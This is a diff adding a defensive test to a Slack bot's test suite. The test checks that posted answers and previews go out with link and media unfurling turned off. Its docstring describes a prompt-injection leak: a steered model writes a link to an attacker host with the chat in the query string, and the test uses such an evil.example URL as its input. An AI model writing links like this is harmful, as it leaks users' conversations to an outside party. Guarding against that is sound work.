@@ -281,3 +281,18 @@ async def test_a_slack_backoff_never_holds_other_channels_deliveries(
         assert await delivery.drain(2)
     finally:
         await storage.backend.close()
+
+
+async def test_the_bots_posts_unfurl_nothing(fake_slack: FakeSlack, slack_channel) -> None:
+    """Slack's servers fetch a posted media link to unfurl it, with no one clicking: a
+    model steered into writing https://evil.example/p.png?d=<the chat> leaked it by
+    itself. Answers and previews are posted with unfurling off."""
+    channel = await _sender(slack_channel)
+    link = "see https://evil.example/p.png?d=secret"
+    await channel.send(OutboundMessage(DM, link))
+    await channel.post_preview(DM, link, None)
+    calls = fake_slack.calls_to("chat.postMessage")
+    assert len(calls) == 2
+    for call in calls:
+        assert str(call.params["unfurl_links"]).lower() in ("false", "0")
+        assert str(call.params["unfurl_media"]).lower() in ("false", "0")
